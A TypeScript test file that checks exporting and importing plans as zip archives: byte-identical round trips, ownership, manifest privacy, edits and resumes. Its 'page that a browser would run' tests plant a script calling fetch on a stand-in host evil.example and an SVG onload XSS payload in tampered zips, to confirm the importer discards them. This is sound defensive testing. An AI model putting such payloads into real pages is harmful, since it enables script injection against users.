import { existsSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findCall, ledger, saveCall } from '../../../src/library/for-drafting.ts';
import {
  asUser,
  discardEdit,
  doctor,
  editPrompt,
  importPlan,
  type Library,
  listArtifacts,
  listFacts,
  listPlans,
  planFolder,
  planGraph,
  planRequest,
  planStatus,
  resumePlan,
  searchPlans,
  setFact,
  stopPlan,
  writeArtifact,
} from '../../../src/library/index.ts';
import { readZip } from '../../../src/library/use-cases/transfer/read-zip.ts';
import { newPlan, work } from '../../support/plans/in-process.ts';
import { codeOf, unwrap } from '../../support/plans/plan-state.ts';
import { fileOf } from '../../support/plans/stage-files.ts';
import { exported, PROMPT, sha256, text, travellingPlan } from '../../support/plans/travelling-plan.ts';

const REPORT_HTML = fileOf('report', 'report.html');

const travel = travellingPlan();
const { zipFile, imported, changed } = travel;

/** Another plan of the first library, to change. */
async function copy(): Promise<string> {
  return imported(travel.zip, travel.from.library);
}

describe('a plan that travels', () => {
  it('arrives as it was: exported again it is the same file, byte for byte', async () => {
    const arrived = await imported(travel.zip);
    expect((await exported(travel.to.library, arrived)).equals(travel.zip)).toBe(true);
  });

  it('has its request, report, facts and sections, all of them fresh, and is found by its words', async () => {
    const arrived = await imported(travel.zip);
    expect(planRequest(travel.to.library, arrived)).toEqual(planRequest(travel.from.library, travel.planId));
    expect(ledger(travel.to.library, arrived)).toEqual(ledger(travel.from.library, travel.planId));
    const entries = (library: Library, plan_id: string) =>
      unwrap(listArtifacts(library, { plan_id })).entries.map(({ path, sha256, kind, stage }) => ({
        path,
        sha256,
        kind,
        stage,
      }));
    expect(entries(travel.to.library, arrived)).toEqual(entries(travel.from.library, travel.planId));
    const states = unwrap(planGraph(travel.to.library, { plan_id: arrived })).nodes.map(({ state }) => state);
    expect(new Set(states)).toEqual(new Set(['fresh']));
    const status = (library: Library, plan_id: string) => {
      const { state, title, run_id, progress_percentage, steps_completed, quality_summary } = unwrap(
        planStatus(library, { plan_id }),
      );
      return { state, title, run_id, progress_percentage, steps_completed, quality_summary };
    };
    expect(status(travel.to.library, arrived)).toEqual(status(travel.from.library, travel.planId));
    const hits = unwrap(searchPlans(travel.to.library, { query: 'bakery lyon' })).hits.map(({ plan_id }) => plan_id);
    expect(hits).toContain(arrived);
    expect(unwrap(doctor(travel.to.library)).checks.filter(({ status }) => status === 'error')).toEqual([]);
  });

  it('belongs to whoever takes it in, and each import is a plan of its own', async () => {
    const { library } = travel.to;
    const bob = asUser(library, 'bob');
    const [one, other] = [await imported(travel.zip), await imported(travel.zip)];
    expect(one).not.toBe(other);
    expect(unwrap(listPlans(library)).plans.map(({ plan_id }) => plan_id)).toEqual(
      expect.arrayContaining([one, other]),
    );
    expect(codeOf(planStatus(bob, { plan_id: one }))).toBe('PERMISSION_DENIED');
    // A file is read with the rights of the owner's account.
    expect(codeOf(await importPlan(bob, { path: travel.zipFile(travel.zip) }))).toBe('PERMISSION_DENIED');
  });

  it('names no user, no folder and no plan, and no time but those of its runs', async () => {
    const edited = await copy();
    unwrap(await writeArtifact(travel.from.library, { plan_id: edited, path: briefPage(), content: '# Mine\n' }));
    const manifest = unwrap(await readZip(await exported(travel.from.library, edited)))
      .get('plan.json')
      ?.toString();
    expect(manifest).toContain('"edited"');
    for (const secret of ['tester', travel.from.library.home, tmpdir(), edited, travel.planId])
      expect(manifest).not.toContain(secret);
    const { runs, ...others } = JSON.parse(manifest ?? '') as Record<string, unknown>;
    expect(runs).toHaveLength(1);
    expect(JSON.stringify(others)).not.toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:/);
  });

  it('is edited where it arrives, and a resume drafts what depends on the edit and nothing else', async () => {
    const arrived = await imported(travel.zip);
    const [goal] = unwrap(listFacts(travel.to.library, { plan_id: arrived })).facts.filter(
      ({ id }) => id === 'budget.total',
    );
    expect(goal?.value).toBe(200_000);
    const set = unwrap(await setFact(travel.to.library, { plan_id: arrived, id: 'budget.total', value: 300_000 }));
    expect(set.stale_stages.length).toBeGreaterThan(0);
    unwrap(await resumePlan(travel.to.library, { plan_id: arrived }));
    await work(travel.to.library, arrived);
    const nodes = unwrap(planGraph(travel.to.library, { plan_id: arrived })).nodes;
    expect(nodes.every(({ state }) => state === 'fresh')).toBe(true);
    const here = await copy();
    unwrap(await setFact(travel.from.library, { plan_id: here, id: 'budget.total', value: 300_000 }));
    unwrap(await resumePlan(travel.from.library, { plan_id: here }));
    await work(travel.from.library, here);
    const page = nodes.find(({ stage }) => stage === 'executive_summary')?.paths[1] ?? '';
    expect(text(travel.to.library, arrived, page)).toBe(text(travel.from.library, here, page));
  });

  it('brings edits and set facts along; an edit can be discarded to what was drafted at home', async () => {
    const edited = await copy();
    const path = briefPage().replace('.md', '.json');
    const drafted = text(travel.from.library, edited, path);
    const mine = JSON.stringify({ ...(JSON.parse(drafted) as object), title: 'My own bakery' });
    unwrap(
      await writeArtifact(travel.from.library, { plan_id: edited, path, content: mine, edit_reason: 'a better name' }),
    );
    unwrap(await setFact(travel.from.library, { plan_id: edited, id: 'budget.total', value: 250_000 }));
    const travelling = await exported(travel.from.library, edited);
    const arrived = await imported(travelling);
    expect((await exported(travel.to.library, arrived)).equals(travelling)).toBe(true);
    const brief = unwrap(planGraph(travel.to.library, { plan_id: arrived })).nodes.find(
      ({ stage }) => stage === 'brief',
    );
    expect(brief?.state).toBe('edited');
    const facts = unwrap(listFacts(travel.to.library, { plan_id: arrived })).facts;
    expect(facts.find(({ id }) => id === 'budget.total')).toMatchObject({ value: 250_000, set: true });
    expect(unwrap(await discardEdit(travel.to.library, { plan_id: arrived, path }))).toMatchObject({ restored: true });
    expect(text(travel.to.library, arrived, path)).toBe(drafted);
  });

  it('brings answers of models along only when the export was asked for them', async () => {
    const answered = await copy();
    const call = {
      requestSha: sha256('a question'),
      stage: 'brief',
      answer: { title: 'Bakery “Süß”', list: [1, null] },
    };
    saveCall(travel.from.library, answered, call);
    const without = await imported(await exported(travel.from.library, answered));
    const travelling = await exported(travel.from.library, answered, true);
    const arrived = await imported(travelling);
    expect(findCall(travel.to.library, without, call.requestSha)).toBeUndefined();
    expect(findCall(travel.to.library, arrived, call.requestSha)).toEqual(call.answer);
    expect((await exported(travel.to.library, arrived, true)).equals(travelling)).toBe(true);
  });

  it('with another prompt says what is stale, as it would at home', async () => {
    const arrived = await imported(travel.zip);
    const prompt = PROMPT.replace('3 people', '5 people');
    const here = await copy();
    const [there, at_home] = [
      unwrap(await editPrompt(travel.to.library, { plan_id: arrived, prompt })),
      unwrap(await editPrompt(travel.from.library, { plan_id: here, prompt })),
    ];
    expect(there.stale_stages).toEqual(at_home.stale_stages);
    expect(there.stale_stages.length).toBeGreaterThan(0);
  });

  it('half drafted, arrives stopped, and a resume drafts the rest to the same plan', async () => {
    const half = newPlan(travel.from.library, PROMPT);
    let changes = 0;
    await work(travel.from.library, half, {
      // The rest of the plan may take less time than a worker usually takes to notice.
      timing: { lookMs: 1 },
      onChange: () => {
        changes += 1;
        const drafted = unwrap(planStatus(travel.from.library, { plan_id: half })).files_count;
        if (drafted >= 8) stopPlan(travel.from.library, { plan_id: half });
      },
    });
    expect(changes).toBeGreaterThan(0);
    const arrived = await imported(await exported(travel.from.library, half));
    const { state, steps_completed, steps_total } = unwrap(planStatus(travel.to.library, { plan_id: arrived }));
    expect(state).toBe('stopped');
    expect(steps_completed).toBeLessThan(steps_total);
    unwrap(await resumePlan(travel.to.library, { plan_id: arrived }));
    await work(travel.to.library, arrived);
    const page = fileOf('report', 'page');
    expect(text(travel.to.library, arrived, page)).toBe(text(travel.from.library, travel.planId, page));
  });

  it('while a worker drafts it, is exported as it stands and arrives stopped', async () => {
    const running = newPlan(travel.from.library, PROMPT);
    const atSome: Promise<Buffer>[] = [];
    await work(travel.from.library, running, {
      onChange: () => {
        if (atSome.length < 3 && unwrap(planStatus(travel.from.library, { plan_id: running })).files_count > 2)
          atSome.push(exported(travel.from.library, running));
      },
    });
    expect(atSome.length).toBeGreaterThan(0);
    for (const bytes of await Promise.all(atSome)) {
      const arrived = await imported(bytes);
      expect(['stopped', 'completed']).toContain(unwrap(planStatus(travel.to.library, { plan_id: arrived })).state);
    }
  });
});

/** Of the plan that `zip` holds. */
function briefPage(): string {
  const { nodes } = unwrap(planGraph(travel.from.library, { plan_id: travel.planId }));
  return nodes.find(({ stage }) => stage === 'brief')?.paths[1] ?? '';
}

describe('a page that a browser would run', () => {
  it('is never taken from the zip: the report is rendered here', async () => {
    const path = REPORT_HTML;
    const evil = '<script>fetch("http://evil.example")</script>';
    const bytes = await changed((manifest, parts) => {
      parts.set(path, { name: path, content: evil });
      const row = manifest.files.find((file) => file.path === path);
      if (row) row.sha256 = sha256(evil);
    });
    const arrived = await imported(bytes);
    expect(text(travel.to.library, arrived, path)).toBe(text(travel.from.library, travel.planId, path));
    expect(readdirSync(planFolder(travel.to.library.home, arrived)).some((name) => name.includes('evil'))).toBe(false);
  });

  it('is left out where no computed section could render it', async () => {
    const bytes = await changed((manifest, parts) => {
      for (const [path, stage] of [
        ['extra.html', null],
        ['extra.svg', 'brief'],
      ] as const) {
        const content = '<svg onload=alert(1)>';
        parts.set(path, { name: path, content });
        manifest.files.push({ path, sha256: sha256(content), role: 'file', kind: 'plan', stage });
      }
    });
    const arrived = await imported(bytes);
    expect(
      unwrap(listArtifacts(travel.to.library, { plan_id: arrived })).entries.map(({ path }) => path),
    ).not.toContain('extra.html');
    for (const name of ['extra.html', 'extra.svg'])
      expect(existsSync(join(planFolder(travel.to.library.home, arrived), name))).toBe(false);
  });
});

it('a plan with data that does not fit arrives with a warning, can be read, and fails no further command', async () => {
  const path = fileOf('schedule', 'data');
  const bytes = await changed((manifest, parts) => {
    parts.set(path, { name: path, content: '{}' });
    const row = manifest.files.find((file) => file.path === path);
    if (row) row.sha256 = sha256('{}');
  });
  const { plan_id, warnings } = unwrap(await importPlan(travel.to.library, { path: zipFile(bytes) }));
  expect(warnings).toEqual([expect.stringContaining('Could not render the report')]);
  expect(text(travel.to.library, plan_id, path)).toBe('{}');
  expect(codeOf(planStatus(travel.to.library, { plan_id }))).toBe('ok');
  expect(codeOf(planGraph(travel.to.library, { plan_id }))).toBe('ok');
  unwrap(await resumePlan(travel.to.library, { plan_id, invalidate: { stages: ['schedule'] } }));
  await work(travel.to.library, plan_id);
  expect(text(travel.to.library, plan_id, path)).toBe(text(travel.from.library, travel.planId, path));
  expect(text(travel.to.library, plan_id, REPORT_HTML)).toBe(text(travel.from.library, travel.planId, REPORT_HTML));
});
